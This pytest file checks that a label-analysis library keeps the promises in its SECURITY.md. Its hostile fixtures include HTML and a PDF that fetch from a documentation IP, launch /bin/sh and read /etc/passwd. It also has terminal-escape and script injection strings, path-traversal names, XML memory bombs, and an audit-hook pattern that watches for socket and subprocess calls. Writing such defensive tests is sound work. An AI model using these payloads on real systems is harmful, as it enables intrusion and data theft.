"""What SECURITY.md promises, tried out: its limits are those of the code, and what it rules out does not happen.

The attacks that have tests of their own elsewhere: PDFs (test_pdf_hostile), readers that hang, crash or fill the memory
(test_isolation), HTML (test_html), reports (test_report_html, test_browser), formulas (test_batch_run).
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest

import mglabel
from mglabel.batch import crew
from mglabel.batch.formats import feed, record, unpacking
from mglabel.batch.inputs import Inputs
from mglabel.cli import main
from mglabel.documents import isolation, limits, text, worker
from mglabel.documents.html import read as html
from mglabel.documents.limits import Limits
from mglabel.documents.ocr import models
from mglabel.language import lexer

HOME = Path(__file__).resolve().parents[1]
LABEL = "Per tablet: magnesium oxide 670 mg, of which magnesium 400 mg. Take 1 tablet daily."
SCAN = HOME / "fixtures" / "pdf" / "scan-image-only-de.pdf"
ROW = re.compile(r"^\| `([\w.]+)` \| ([\d,.]+)(?: (MiB|GiB|s))? \|", re.MULTILINE)
UNITS = {"MiB": 2**20, "GiB": 2**30, "s": 1, "": 1}
HELD: dict[str, Any] = {
    **{f"Limits.{name}": getattr(Limits(), name) for name in Limits.__struct_fields__},
    "Limits.cpu_seconds": Limits().cpu_limit,
    "analyze.max_bytes": text.MAX_BYTES,
    "analyze.max_tokens": lexer.MOST_TOKENS,
    "analyze_html.max_bytes": html.MAX_BYTES,
    "isolation.MAX_WORKERS": isolation.MAX_WORKERS,
    "limits.MAX_JOBS": limits.MAX_JOBS,
    "worker.MAX_OPEN_FILES": worker.MAX_OPEN_FILES,
    "worker.MAX_GROWTH": worker.MAX_GROWTH,
    "record.MAX_RECORD_CHARS": record.MAX_RECORD_CHARS,
    "crew.MAX_ITEMS": crew.MAX_ITEMS,
    "crew.MAX_CHARS": crew.MAX_CHARS,
    "unpacking.MAX_UNPACKED_BYTES": unpacking.MAX_UNPACKED_BYTES,
    "unpacking.MAX_STRINGS_BYTES": unpacking.MAX_STRINGS_BYTES,
    "unpacking.MAX_PIECE_BYTES": unpacking.MAX_PIECE_BYTES,
    "feed.MAX_DEPTH": feed._MAX_DEPTH,
    "feed.MOST_FIELDS": feed._MOST_FIELDS,
    "feed.MOST_NAMES": feed._MOST_NAMES,
}


def test_the_page_names_every_limit_as_it_is() -> None:
    page = (HOME / "SECURITY.md").read_text(encoding="utf-8")
    said = {name: float(number.replace(",", "")) * UNITS[unit] for name, number, unit in ROW.findall(page)}
    assert said == {name: float(value) for name, value in HELD.items()}


# -- what a label cannot do --------------------------------------------------------------------------------------------

WATCHED = """
import json, sys
seen = []
def watch(event, arguments):
    if event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.spawn", "os.posix_spawn", "urllib.",
                         "ctypes.dlopen", "shutil.", "os.remove", "os.rename", "os.mkdir", "webbrowser.", "ftplib.")):
        seen.append(event)
    elif event == "open" and isinstance(arguments[0], str):
        if set("wax+") & set(arguments[1] or "r") or not arguments[0].startswith(allowed):
            seen.append(f"open {arguments[0]} {arguments[1]}")
import mglabel
from mglabel.batch.formats.feed import Feed
limits = mglabel.Limits(max_pictures=0)
for path in sys.argv[2:3]:  # what is loaded once
    mglabel.analyze_file(path, isolate=False, limits=limits)
allowed = (*json.loads(sys.argv[1]), "/proc/self/", "/etc/mime.types")
sys.addaudithook(watch)
for path in sys.argv[2:]:
    try:
        analyses = mglabel.analyze_catalogue(path, isolate=False, limits=limits)
        for analysis in analyses:
            analysis.to_json()
    except mglabel.MglabelError:
        pass
print(json.dumps(seen))
"""
REACHING = f"""<!doctype html><title>Magnesium</title><base href="http://192.0.2.1/">
<link rel="stylesheet" href="http://192.0.2.1/a.css"><script src="//192.0.2.1/a.js">fetch("http://192.0.2.1/")</script>
<img src="file:///etc/passwd"><iframe src="http://192.0.2.1/"></iframe><object data="/etc/passwd"></object>
<style>@import url(http://192.0.2.1/b.css)</style><p>{LABEL}"""


def test_reading_opens_no_socket_starts_no_program_and_writes_no_file(tmp_path: Path) -> None:
    page = tmp_path / "page.html"
    page.write_text(REACHING, encoding="utf-8")
    files = [*sorted((HOME / "fixtures" / "pdf").glob("*.pdf")), *sorted((HOME / "fixtures").glob("*/*.html"))]
    assert len(files) > 40
    files = [*files[::4], *(tmp_path / "reaching.pdf",), page]
    (tmp_path / "reaching.pdf").write_bytes(reaching_pdf())
    readable = [sys.prefix, sys.base_prefix, str(Path(mglabel.__file__).parent), *map(str, files)]
    done = subprocess.run(
        [sys.executable, "-c", WATCHED, json.dumps(readable), *map(str, files)],
        capture_output=True,
        text=True,
        check=True,
        env={**os.environ, "PYTHONPATH": str(Path(mglabel.__file__).parents[1])},
    )
    assert json.loads(done.stdout) == []


def reaching_pdf() -> bytes:
    """A PDF that wants to run a script, launch a program, fetch a page, and read a file of the machine."""
    from small_pdfs import CATALOG, CONTENT, one_page, page_of, pdf, stream

    objects = one_page(page_of([LABEL]))
    actions = (
        b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1/'\\);)/Next<</S/Launch/F(/bin/sh)"
        b"/Next<</S/URI/URI(http://192.0.2.1/)/Next<</S/SubmitForm/F(http://192.0.2.1/)>>>>>>>>"
    )
    objects[CATALOG] = objects[CATALOG].rstrip()[:-2] + actions + b">>"
    objects[CONTENT + 90] = stream(b"", b"/F(/etc/passwd)/FFilter/FlateDecode")
    return pdf(objects)


@pytest.mark.parametrize("form", ["text", "json", "github", "sarif", "jsonld", "html"])
def test_no_report_carries_what_a_terminal_or_a_page_would_obey(
    form: str, tmp_path: Path, capsysbinary: pytest.CaptureFixture[bytes]
) -> None:
    orders = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e</script><script>alert(1)</script>\r\n::error::owned\n::set-output::x"
    path = tmp_path / "\x1b[31mlabel\n::error::file.txt"
    path.write_text(LABEL.replace("oxide", f"oxide {orders} oxide"), encoding="utf-8", newline="")
    files = [str(path)] if form == "html" else [str(path), f"{path}\x1b[2Jgone"]
    main.main(["check", "--format", form, "--fail-on", "never", *files])
    out, err = capsysbinary.readouterr()
    for said in (out, err):
        assert not re.search(rb"[\x00-\x09\x0b-\x1f\x7f]|\xc2[\x80-\x9f]", said)
        if form in ("html", "jsonld"):
            assert b"<script>alert" not in said
            assert b"</script><script" not in said
    assert all(line.startswith(b"mglabel: ") for line in err.splitlines())
    if form == "github":
        assert all(re.match(rb"::(error|warning|notice) (file|title)=", line) for line in out.splitlines())


def test_reports_are_written_where_they_should(tmp_path: Path) -> None:
    from mglabel.cli.outputs import Names

    names = Names(".html")
    for path in ("../../x/../evil.txt", "/etc/passwd", "..", "a/..", ".", "C:\\x\\y", "nul\n.txt", "-"):
        assert Path(tmp_path / names.after(path)).parent == tmp_path


@pytest.mark.skipif(not models.is_installed(), reason="needs the extra ocr")
def test_recognising_letters_leaves_nothing_behind_and_reports_to_nobody(tmp_path: Path) -> None:
    code = (
        "import os, sys, mglabel; mglabel.analyze_file(sys.argv[1], isolate=False);"
        "print(os.environ['ORT_DISABLE_TELEMETRY'])"
    )
    home = {"HOME": str(tmp_path), "XDG_CACHE_HOME": str(tmp_path / "cache"), "PATH": os.environ["PATH"]}
    done = subprocess.run(
        [sys.executable, "-c", code, str(SCAN)],
        capture_output=True,
        text=True,
        check=True,
        env={**home, "PYTHONPATH": str(Path(mglabel.__file__).parents[1])},
    )
    assert done.stdout == "1\n"
    assert [*tmp_path.rglob("*")] == []


# -- tables ------------------------------------------------------------------------------------------------------------


def read(path: Path) -> list[tuple[str, str]]:
    """Kind and reason of every item of an input."""
    return [(item.kind, item.reason) for item in Inputs([str(path)]).items()]


SHEET, STYLES = "xl/worksheets/sheet1.xml", "xl/styles.xml"
TEN_MIB = b"<c/>" * (10 * 2**18)
BOMBS = {
    "a row without end": (SHEET, b"</row>", TEN_MIB, "too-large"),
    "something else without end": (SHEET, b"<sheetData", TEN_MIB, "too-large"),
    "something else between rows": (SHEET, b"</sheetData", (TEN_MIB[: 2**20] + b"<row/>") * 10, "too-large"),
    "styles without end": (STYLES, b"</fonts", TEN_MIB, "too-large"),
    "a text without end": (
        SHEET,
        b"</row>",
        b'<c t="inlineStr"><is><t>' + b"x" * 10 * 2**20 + b"</t></is></c>",
        "too-large",
    ),
    "rows in rows": (SHEET, b"</row>", b"<row>" * 2**21, "damaged"),
    "entities": (SHEET, b"<worksheet", b'<!DOCTYPE w [<!ENTITY a "b">]>' + b" " * 9 * 2**20, "damaged"),
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_workbook_that_would_fill_the_memory_is_refused(name: str, tmp_path: Path) -> None:
    import openpyxl

    part, before, inserted, reason = BOMBS[name]
    book = openpyxl.Workbook()
    book.active.append(["id", "text"])
    book.active.append(["1", LABEL])
    book.save(tmp_path / "honest.xlsx")
    with zipfile.ZipFile(tmp_path / "honest.xlsx") as old, zipfile.ZipFile(tmp_path / "t.xlsx", "w", 8) as new:
        for entry in old.infolist():
            data = old.read(entry)
            new.writestr(entry, data.replace(before, inserted + before, 1) if entry.filename == part else data)
    assert (tmp_path / "t.xlsx").stat().st_size < 200_000
    assert read(tmp_path / "honest.xlsx") == [("text", "")]
    assert read(tmp_path / "t.xlsx") == [("failed", reason)]


def test_a_large_honest_workbook_is_read(tmp_path: Path) -> None:
    import openpyxl

    book = openpyxl.Workbook(write_only=True)
    sheet = book.create_sheet()
    sheet.append(["id", "text"])
    for at in range(300):
        sheet.append([at, f"{at} Zinc {'x' * 30_000}"])
    book.save(tmp_path / "t.xlsx")
    with zipfile.ZipFile(tmp_path / "t.xlsx") as archive:
        assert max(entry.file_size for entry in archive.infolist()) > unpacking.MAX_PIECE_BYTES
    assert read(tmp_path / "t.xlsx") == [("text", "")] * 300


def test_many_small_rows_are_no_reason_to_refuse(tmp_path: Path) -> None:
    rows = b"".join(b'<row r="%d"/>\n' % at for at in range(1_000_000))
    with zipfile.ZipFile(tmp_path / "t.xlsx", "w", 8) as book:
        book.writestr(SHEET, b"<worksheet><sheetData>" + rows + b"</sheetData></worksheet>")
        book.writestr("xl/sharedStrings.xml", b"<sst>" + b"<si><t>a</t></si>" * 2_000_000 + b"</sst>")
    unpacking.check_workbook(tmp_path / "t.xlsx")


def test_a_feed_of_endless_fields_or_names_takes_no_memory(tmp_path: Path) -> None:
    head, tail = "<rss><item><id>1</id><title>x</title><link>l</link><description>d</description>", "</item></rss>"
    (tmp_path / "fields.xml").write_text(f"{head}{'<a></a>' * 5_000_000}{tail}", encoding="utf-8")
    (tmp_path / "names.xml").write_text(head + "".join(f"<n{at}/>" for at in range(50_000)) + tail, encoding="utf-8")
    assert read(tmp_path / "fields.xml") == [("failed", "too-large")]
    assert read(tmp_path / "names.xml") == [("failed", "damaged")]


@pytest.mark.skipif(os.name == "nt", reason="links need rights there")
def test_a_link_out_of_a_folder_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "secret.txt").write_text(LABEL, encoding="utf-8")
    folder = tmp_path / "suppliers"
    folder.mkdir()
    (folder / "real.txt").write_text(LABEL, encoding="utf-8")
    (folder / "inside.txt").symlink_to("real.txt")
    (folder / "outside.txt").symlink_to("../secret.txt")
    (folder / "table.csv").symlink_to(tmp_path / "secret.txt")
    (folder / "all").symlink_to("/")
    os.mkfifo(folder / "pipe.txt")
    found = {Path(item.id).name: (item.kind, item.reason) for item in Inputs([str(folder)]).items()}
    refused = ("failed", "cannot-open")
    assert found == {
        "inside.txt": ("file", ""),
        "outside.txt": refused,
        "pipe.txt": refused,
        "real.txt": ("file", ""),
        "table.csv": refused,
    }
    assert read(folder / "outside.txt") == [("file", "")]  # named by the caller
